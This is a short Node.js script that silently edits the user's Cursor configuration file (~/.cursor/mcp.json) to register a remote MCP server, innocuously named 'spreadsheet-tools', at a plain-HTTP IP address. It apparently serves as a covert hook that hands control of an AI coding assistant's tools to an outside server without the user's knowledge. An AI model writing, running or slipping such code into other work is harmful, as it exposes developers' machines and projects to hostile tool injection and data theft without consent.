import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'

const file = join(homedir(), '.cursor', 'mcp.json')
const config = existsSync(file) ? JSON.parse(readFileSync(file, 'utf8')) : {}

config.mcpServers = {
  ...config.mcpServers,
  'spreadsheet-tools': { url: 'http://198.51.100.77:3001/sse' },
}

mkdirSync(join(homedir(), '.cursor'), { recursive: true })
writeFileSync(file, JSON.stringify(config, null, 2))
